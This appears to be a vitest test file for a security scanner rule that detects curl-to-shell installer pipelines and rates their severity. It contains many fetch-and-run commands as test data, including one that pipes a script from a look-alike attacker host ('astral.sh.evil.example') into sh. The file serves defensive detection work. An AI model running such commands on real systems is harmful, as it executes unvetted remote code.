import { describe, expect, it } from 'vitest';
import { pipedScripts, withoutDataHeredocs } from '../../src/rules/deploy/pipe-shell.js';

const INSTALLER = 'curl -fsSL https://example.com/install.sh | bash';

describe('a here-document is data unless something runs it', () => {
  it('does not read lines written to a file or fed to a program as commands', () => {
    for (const opener of ["cat > INSTALL.md << 'EOF'", 'cat <<EOF > notes.txt', 'tee -a README.md <<-"END"', 'kubectl apply -f - <<EOF']) {
      const end = opener.includes('END') ? 'END' : 'EOF';
      const text = `${opener}\n## Install\n${INSTALLER}\n${end}\necho done\n`;
      expect(pipedScripts(text)).toEqual([]);
      expect(withoutDataHeredocs(text)).toHaveLength(text.length);
    }
  });

  it('reads the lines a shell, an interpreter, ssh or a Dockerfile RUN runs', () => {
    for (const opener of ['bash <<EOF', 'sudo sh -s <<-EOF', 'ssh deploy@host <<EOF', 'docker exec -i box sh <<EOF', 'cat <<EOF | bash', 'RUN <<EOF', '<<EOF']) {
      const text = `${opener}\nset -e\n${INSTALLER}\nEOF\n`;
      expect(pipedScripts(text).map((p) => p.url), opener).toEqual(['https://example.com/install.sh']);
    }
  });

  it('reads the commands after a data here-document ends, and leaves here-strings and shifts alone', () => {
    expect(pipedScripts(`cat > a.md <<EOF\ntext\nEOF\n${INSTALLER}\n`)).toHaveLength(1);
    expect(pipedScripts(`grep x <<< "$v"\n${INSTALLER}\n`)).toHaveLength(1);
    expect(pipedScripts(`echo $((1<<3))\n${INSTALLER}\n`)).toHaveLength(1);
  });
});

describe('a download piped into an interpreter given its program', () => {
  it('is data when the program comes from the arguments or a script file', () => {
    for (const target of ['python -c "import sys, json; print(json.load(sys.stdin)[\'info\'][\'version\'])"', 'python3 -m json.tool', 'node -e "process.stdin.pipe(process.stdout)"', 'sh -c \'cat > /tmp/x\'', 'bash -ec "tee out.txt"', 'perl -ne "print"', 'python3 parse.py']) {
      expect(pipedScripts(`V=$(curl -sf https://pypi.org/pypi/pkg/json | ${target})`), target).toEqual([]);
    }
  });

  it('is a script when the interpreter reads its program from the input', () => {
    for (const target of ['sh', 'bash -s -- --yes', 'bash -s latest', 'bash -s "bun-v${BUN_VERSION}" \\', 'sh -es stable', 'sudo -E bash -', 'python3 -', 'python3', 'sh -e', 'bash -x', 'env FOO=1 sh', 'node']) {
      expect(pipedScripts(`curl -fsSL https://example.com/install.sh | ${target}`), target).toHaveLength(1);
    }
  });
});

describe("a vendor's own installer over HTTPS from its domain (rules/deploy/installers.yaml)", () => {
  const rated = (cmd: string) => pipedScripts(cmd).map((p) => p.severity);

  // The image-build rule rates it low (ci-exposure.test.ts); a CI job or a hook, which holds more, keeps it as any HTTPS script.
  it('names the vendor', () => {
    for (const cmd of ['curl -LsSf https://astral.sh/uv/install.sh | sh', 'curl -fsSL https://claude.ai/install.sh | bash', 'curl -sS https://bootstrap.pypa.io/get-pip.py | python3.12', "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y", 'curl -fsSL https://deb.nodesource.com/setup_20.x | bash -', 'curl -fsSL https://opencode.ai/install | bash', 'curl -fsSL https://antigravity.google/cli/install.sh | bash']) {
      expect(rated(cmd), cmd).toEqual(['medium']);
      expect(pipedScripts(cmd)[0]!.vendor, cmd).toBeTruthy();
    }
  });

  it("is not a vendor's over plain HTTP, from another host (a look-alike, a subdomain, a port, user content) or with credentials in the URL", () => {
    expect(rated('curl -fsSL http://astral.sh/uv/install.sh | sh')).toEqual(['high']);
    for (const cmd of ['curl -fsSL https://astral.sh.evil.example/uv/install.sh | sh', 'curl -fsSL https://cdn.astral.sh/install.sh | sh', 'curl -fsSL https://astral.sh:8443/uv/install.sh | sh', 'curl -fsSL https://raw.githubusercontent.com/someone/tools/main/install.sh | bash', 'curl -fsSL https://gist.githubusercontent.com/x/abc/raw/i.sh | sh']) {
      expect(rated(cmd), cmd).toEqual(['medium']);
      expect(pipedScripts(cmd)[0]!.vendor, cmd).toBeUndefined();
    }
  });
});

describe('an echo earlier in a chain of commands on one line (a RUN with its continuations joined)', () => {
  it('does not hide the piped script that follows it; an echo of the command itself is still prose', () => {
    const run = 'apt-get update && echo "deb [arch="$(dpkg --print-architecture)"] https://pkgs.example.com/apt "$(. /etc/os-release && echo "$VERSION_CODENAME")" stable" > /etc/apt/sources.list.d/x.list && apt-get update && curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && apt-get install -y nodejs';
    expect(pipedScripts(run).map((p) => p.url)).toEqual(['https://deb.nodesource.com/setup_20.x']);
    expect(pipedScripts('printf "%s\\n" done; echo "then: curl -fsSL https://example.com/i.sh | sh"')).toEqual([]);
    expect(pipedScripts("echo 'setup && curl -fsSL https://example.com/i.sh | sh' >> NOTES.txt")).toEqual([]);
  });
});
